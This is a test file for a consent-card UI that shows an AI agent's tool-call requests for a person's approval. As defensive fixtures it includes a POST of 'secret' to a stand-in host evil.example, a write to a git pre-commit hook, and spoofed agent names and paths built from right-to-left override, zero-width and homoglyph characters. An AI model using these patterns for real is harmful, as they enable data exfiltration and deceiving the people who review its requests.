// @vitest-environment jsdom
import { fireEvent, screen, within } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import type { ConsentCard } from "../../app/bridge/views.ts";
import type { ConsentPreview, DiffLine } from "../../app/contract/consent-preview.ts";
import type { JsonObject } from "../../app/contract/json.ts";
import { LIMITS } from "../../app/contract/limits.ts";
import { SENSITIVITIES } from "../../app/contract/sensitivity.ts";
import { createI18n, LOCALES, type LocaleName } from "../../i18n/index.ts";
import {
  arm,
  cardOf,
  clickOnly,
  comeIntoSight,
  drawCard,
  drawsCards,
  highCard,
  pass,
  press,
} from "./testing/drawn-card.tsx";

drawsCards();

const { t } = createI18n("en");
const PROJ = "/home/ada/proj";
const card = () => screen.getByTestId("consent-card");
const heading = () => within(card()).getByRole("heading", { level: 2 });
const allow = () => screen.getByTestId("consent-allow-once");
const isInert = (): boolean => allow().getAttribute("aria-disabled") === "true";

const added = (count: number): readonly DiffLine[] =>
  Array.from({ length: count }, (_, at) => ({ kind: "added", text: `line ${at}` }));
const change = (lines: number): ConsentPreview => ({
  kind: "text_change",
  change: "create",
  size_before: null,
  size_after: 800,
  executable: false,
  hunks: [{ old_start: 1, new_start: 1, lines: added(lines) }],
});
const entry = { kind: "entry", size_bytes: 12, entries: null, overwrites: false } as const;

describe("what each kind of call shows", () => {
  const CALLS: readonly (readonly [string, JsonObject, ConsentPreview | null, string, string])[] = [
    ["read_file", { path: `${PROJ}/notes.md` }, null, "read", "proj/notes.md"],
    ["list_directory", { path: PROJ }, null, "list", "proj"],
    [
      "write_file",
      { path: `${PROJ}/a.md`, content: "x" },
      change(82),
      "create",
      "proj/a.md · +82 −0",
    ],
    [
      "delete_file",
      { path: `${PROJ}/old.md` },
      { ...entry, entry: "file" },
      "delete",
      "proj/old.md",
    ],
    [
      "move_file",
      { from: `${PROJ}/a.md`, to: `${PROJ}/b.md` },
      { ...entry, entry: "file" },
      "move",
      "proj/b.md",
    ],
    [
      "run_command",
      { argv: ["git", "push"], directory: PROJ },
      { kind: "command", program: "/usr/bin/git", sandbox: null, network: true },
      "run",
      "git push",
    ],
    ["fetch_url", { url: "https://a.test/x" }, null, "fetch", "a.test/x"],
    [
      "fetch_url",
      { url: "https://evil.example/", method: "POST", body: "secret" },
      null,
      "send",
      "evil.example",
    ],
    ["read_clipboard", {}, null, "read_clipboard", t("target.read_clipboard")],
    ["write_clipboard", { text: "copied" }, null, "copy_text", "copied"],
    ["send_notification", { title: "Hello" }, null, "notify", "Hello"],
    ["get_location", { accuracy: "fine" }, null, "locate_exactly", t("target.locate_exactly")],
    ["somebody:else", { any: "thing" }, null, "other", "somebody:else"],
  ];

  test.each(CALLS)("%s %j", (tool_name, args, preview, kind, says) => {
    drawCard(cardOf({ tool_name, arguments: args, preview }));
    expect(screen.getByTestId("consent-target").dataset.kind).toBe(kind);
    expect(heading().textContent).toContain(says);
    expect(heading().getAttribute("aria-label")).toContain("Notes");
    expect(screen.queryAllByTestId("consent-preview")).toHaveLength(preview === null ? 0 : 1);
  });

  test("a special path is marked, and stands whole below its shorter form", () => {
    const path = `${PROJ}/.git/hooks/pre-commit`;
    drawCard(cardOf({ tool_name: "write_file", arguments: { path, content: "x" } }));
    const target = screen.getByTestId("consent-target");
    expect(target.querySelector('[data-mark="git_hook"]')?.textContent).toBe(
      t("target.mark.git_hook"),
    );
    expect(target.querySelector(".target-path")?.textContent).toBe(path);
  });

  test("an ordinary path has no mark", () => {
    drawCard(cardOf());
    expect(screen.getByTestId("consent-target").querySelectorAll("[data-mark]")).toHaveLength(0);
  });

  test.each(SENSITIVITIES)("%s by its word", (sensitivity) => {
    drawCard(cardOf({ sensitivity }));
    expect(card().querySelector(`.badge-${sensitivity}`)?.textContent).toBe(
      t(`sensitivity.${sensitivity}`),
    );
  });

  test("its place is told only where others wait", () => {
    const { redraw } = drawCard(cardOf(), { position: 2, total: 3 });
    const place = t("consent.position", { position: 2, total: 3 });
    expect(card().textContent).toContain(place);
    redraw(cardOf(), { position: 1, total: 1 });
    expect(card().querySelector(".position")).toBeNull();
  });
});

describe("the arguments", () => {
  const shown = () => screen.getByTestId("consent-arguments").textContent ?? "";

  test("fold where the heading says them, and unfold whole", async () => {
    drawCard(cardOf());
    expect(shown()).not.toContain(`${PROJ}/notes.md`);
    await clickOnly(screen.getByTestId("consent-all-arguments"));
    expect(shown()).toContain(`${PROJ}/notes.md`);
  });

  test("stay in sight where nothing else says them", () => {
    drawCard(cardOf({ arguments: { path: `${PROJ}/notes.md`, max_bytes: 12_345 } }));
    expect(shown()).toContain("12345");
  });

  test("of a tool that nobody here knows are all in sight", () => {
    drawCard(cardOf({ tool_name: "somebody:else", arguments: { first: "one", second: "two" } }));
    expect(shown()).toMatch(/first.*one.*second.*two/);
    expect(screen.queryByTestId("consent-all-arguments")).toBeNull();
  });

  test("come before a long difference, so that none hides below it", () => {
    const args = { path: `${PROJ}/a.md`, content: "x", unknown: "hidden" };
    drawCard(cardOf({ tool_name: "write_file", arguments: args, preview: change(200) }));
    const [rows, preview] = ["consent-arguments", "consent-preview"].map((id) =>
      screen.getByTestId(id),
    );
    expect(rows?.compareDocumentPosition(preview as Node)).toBe(Node.DOCUMENT_POSITION_FOLLOWING);
  });
});

describe("when it may be allowed", () => {
  test("not before it is in sight", async () => {
    const { actions } = drawCard(cardOf());
    await pass(60_000);
    expect(isInert()).toBe(true);
    expect(actions.opened).not.toHaveBeenCalled();
    comeIntoSight(0.5);
    await pass(60_000);
    expect(actions.opened).not.toHaveBeenCalled();
    comeIntoSight(0.6);
    await pass(100);
    expect(actions.opened.mock.calls).toEqual([["request-1"]]);
  });

  test(`not within ${LIMITS.approvalInertMs} ms of the host knowing that it is`, async () => {
    drawCard(cardOf());
    comeIntoSight();
    await pass(20);
    await pass(LIMITS.approvalInertMs - 50);
    expect(isInert()).toBe(true);
    await pass(100);
    expect(isInert()).toBe(false);
  });

  test("not while the host does not know; it is told again", async () => {
    const { actions } = drawCard(cardOf());
    actions.opened.mockResolvedValueOnce(false);
    comeIntoSight();
    await pass(400);
    expect(actions.opened).toHaveBeenCalledTimes(1);
    await pass(LIMITS.approvalInertMs);
    expect(isInert()).toBe(true);
    expect(actions.opened).toHaveBeenCalledTimes(2);
    await pass(LIMITS.approvalInertMs + 100);
    expect(isInert()).toBe(false);
  });

  test("not without a host", async () => {
    const { actions } = drawCard(cardOf(), { connected: false });
    await arm();
    await press("consent-allow-once");
    await press("consent-deny");
    expect(isInert()).toBe(true);
    expect(actions.opened).not.toHaveBeenCalled();
    expect(actions.answer).not.toHaveBeenCalled();
  });

  test.each(["moves", "gains the keyboard", "comes back into view"])(
    `not within ${LIMITS.approvalInertMs} ms of when the page ${"%s"}`,
    async (does) => {
      drawCard(cardOf());
      await arm();
      expect(isInert()).toBe(false);
      if (does === "moves") {
        const row = allow().closest(".answer-row");
        if (row) row.getBoundingClientRect = () => new DOMRect(0, 40, 100, 30);
      } else if (does === "gains the keyboard") fireEvent(window, new Event("focus"));
      else fireEvent(document, new Event("visibilitychange"));
      await pass(50);
      expect(isInert()).toBe(true);
      await pass(LIMITS.approvalInertMs + 50);
      expect(isInert()).toBe(false);
    },
  );
});

describe("an answer", () => {
  test("is sent once; until it is taken nothing more can be pressed", async () => {
    const { actions } = drawCard(cardOf());
    const taken = Promise.withResolvers<null>();
    actions.answer.mockReturnValueOnce(taken.promise);
    await arm();
    await press("consent-allow-once");
    await press("consent-allow-once");
    await press("consent-deny");
    expect(actions.answer.mock.calls).toEqual([["request-1", "allow_once", undefined]]);
    expect(card().textContent).toContain(t("consent.sending"));
    taken.resolve(null);
    await pass(0);
    expect(within(card()).getByRole("alert").textContent).toBe("");
  });

  test("that was not taken says why, and can be given again", async () => {
    const { actions } = drawCard(cardOf());
    actions.answer.mockResolvedValueOnce("too_early");
    await arm();
    await press("consent-allow-once");
    expect(within(card()).getByRole("alert").textContent).toBe(t("bridge_error.too_early"));
    await press("consent-allow-once");
    expect(actions.answer).toHaveBeenCalledTimes(2);
  });

  describe("where a folder is wanted", () => {
    const wanting = (access: "read" | "read_write") =>
      cardOf({ root_wanted: { suggested_path: PROJ, access } });
    const field = () => screen.getByTestId<HTMLInputElement>("consent-root");

    test("an approval gives the folder that the person chose, a denial none", async () => {
      const { actions } = drawCard(wanting("read"));
      actions.answer.mockResolvedValue("root_unusable");
      await arm();
      expect(field().value).toBe(PROJ);
      fireEvent.change(field(), { target: { value: "/home/ada/other" } });
      await press("consent-deny");
      await press("consent-allow-once");
      expect(actions.answer.mock.calls).toEqual([
        ["request-1", "deny", undefined],
        ["request-1", "allow_once", "/home/ada/other"],
      ]);
    });

    test.each(["read", "read_write"] as const)("what %s lets the agent do is said", (access) => {
      drawCard(wanting(access));
      const sentence = { read: "root_sentence_read", read_write: "root_sentence_write" } as const;
      expect(
        document.getElementById(field().getAttribute("aria-describedby") ?? "")?.textContent,
      ).toBe(t(`consent.${sentence[access]}`, { agent: "Notes" }));
    });
  });

  test("that lets an agent into the own network says so before it is given", () => {
    drawCard(cardOf({ host_wanted: { host: "nas.local", port: 8080 } }));
    const notice = screen.getByTestId("consent-host").textContent ?? "";
    expect(notice).toContain(t("consent.host_notice"));
    expect(notice).toContain("nas.local:8080");
  });
});

describe("the keyboard", () => {
  test("Esc on the card denies it, not while a word is being composed", async () => {
    const { actions } = drawCard(cardOf());
    fireEvent.keyDown(heading(), { key: "Escape", isComposing: true });
    await pass(0);
    expect(actions.answer).not.toHaveBeenCalled();
    fireEvent.keyDown(heading(), { key: "Escape" });
    await pass(0);
    expect(actions.answer.mock.calls).toEqual([["request-1", "deny", undefined]]);
  });

  test.each(["Enter", " ", "y", "a"])("%j on the card answers nothing", async (key) => {
    const { actions } = drawCard(cardOf());
    await arm();
    for (const place of [card(), heading(), screen.getByTestId("consent-body")]) {
      fireEvent.keyDown(place, { key });
      fireEvent.keyUp(place, { key });
    }
    await pass(0);
    expect(actions.answer).not.toHaveBeenCalled();
  });

  test("nothing on it takes the focus by itself, and arming moves none", async () => {
    drawCard(cardOf());
    allow().focus();
    expect(document.activeElement).toBe(allow());
    await arm();
    expect(document.activeElement).toBe(allow());
  });
});

describe("the countdown", () => {
  const ring = () => screen.getByTestId("consent-countdown");
  const heard = () => card().querySelector('[aria-live="assertive"]')?.textContent;
  const running = (remaining_ms: number): ConsentCard => highCard({ remaining_ms });

  test("stands still until the card was seen", async () => {
    drawCard(highCard());
    await pass(120_000);
    expect(ring().textContent).toContain(t("consent.not_started"));
    expect(ring().dataset.seconds).toBe(String(LIMITS.consentTimeoutMs / 1000));
  });

  test("says the seconds that are left, and when they are few", async () => {
    drawCard(running(12_000));
    expect(ring().textContent).toContain(t("consent.seconds_left", { count: 12 }));
    expect(ring().dataset.late).toBe("false");
    await pass(2_000);
    expect(ring().textContent).toContain(t("consent.seconds_left", { count: 10 }));
    expect(ring().dataset.late).toBe("true");
  });

  test("is read out at its start, at 10 s and at 5 s", async () => {
    drawCard(running(12_000));
    const said = [heard()];
    for (let second = 0; second < 11; second += 1) {
      await pass(1_000);
      if (heard() !== said.at(-1)) said.push(heard());
    }
    const left = (count: number) => t("consent.seconds_left", { count });
    const agent = "Notes";
    const tool = t("target.read", { path: "proj/notes.md" });
    expect(said).toEqual([t("consent.announce", { agent, tool, count: 12 }), left(10), left(5)]);
  });

  test("once over, leaves nothing to answer", async () => {
    const { actions } = drawCard(running(2_000));
    await arm();
    await pass(2_000);
    expect(card().textContent).toContain(t("consent.time_over"));
    await press("consent-allow-once");
    await press("consent-always-deny");
    await press("consent-deny");
    expect(actions.answer).not.toHaveBeenCalled();
  });

  test("is none at medium: the request is read out without a time", () => {
    drawCard(cardOf());
    expect(screen.queryByTestId("consent-countdown")).toBeNull();
    expect(heard()).toBe(
      t("consent.announce_untimed", {
        agent: "Notes",
        tool: t("target.read", { path: "proj/notes.md" }),
      }),
    );
  });
});

describe("who asks", () => {
  test("by the person's own name, and what the agent calls itself beside it", () => {
    drawCard(cardOf({ petname: "Archivist" }));
    expect(heading().getAttribute("aria-label")).toContain("Archivist");
    expect(screen.getByTestId("original-name").textContent).toContain("Notes");
  });

  test.each([
    ["turns the line round", "Sys\u202etem"],
    ["ends the line", "System\nConsentry asks:"],
    ["is partly invisible", "Sys\u200btem"],
  ])("a name that %s is drawn as what it is", (_does, agent_name) => {
    drawCard(cardOf({ agent_name }));
    const hidden = [...agent_name].find((each) => /[\u202e\n\u200b]/.test(each)) ?? "";
    expect(card().querySelector(".identity-name")?.textContent).not.toContain(hidden);
    expect(heading().getAttribute("aria-label")).not.toContain(hidden);
  });

  test("a name that holds markup or a placeholder of ours stays text", () => {
    drawCard(cardOf({ agent_name: "<b>x</b> {{tool}} $t(nav.settings)" }));
    expect(card().querySelector(".identity-name")?.textContent).toBe(
      "<b>x</b> {{tool}} $t(nav.settings)",
    );
    expect(heading().getAttribute("aria-label")).toContain("<b>x</b> {{tool}} $t(nav.settings)");
  });

  test.each([
    [{ kind: "known", fingerprint: "5b1e 07c2 9d44 a0f3 8e61" }, "5b1e 07c2 9d44 a0f3 8e61"],
    [{ kind: "unknown" }, t("agents.key_is.unknown")],
    [{ kind: "in_doubt" }, t("agents.key_is.in_doubt")],
  ] as const)("never without its key, or why there is none: %j", (key_mark, says) => {
    drawCard(cardOf({ key_mark }));
    expect(screen.getByTestId("fingerprint").textContent).toContain(says);
  });

  test("letters of two alphabets in a path are pointed out", () => {
    drawCard(cardOf({ arguments: { path: `${PROJ}/\u0440assword.txt` } }));
    expect(screen.getByTestId("consent-body").textContent).toContain(
      t("consent.mixed_script", { word: "\u0440assword" }),
    );
  });
});

test.each(Object.keys(LOCALES) as LocaleName[])("the whole card speaks %s", (language) => {
  const { t: said } = createI18n(language);
  drawCard(highCard(), { language });
  expect(card().querySelector(".badge-high")?.textContent).toBe(said("sensitivity.high"));
  expect(screen.getByTestId("consent-countdown").textContent).toContain(
    said("consent.not_started"),
  );
  expect(screen.getByTestId("consent-facts").textContent).toContain(
    said("scopes.filesystem:read.label"),
  );
});
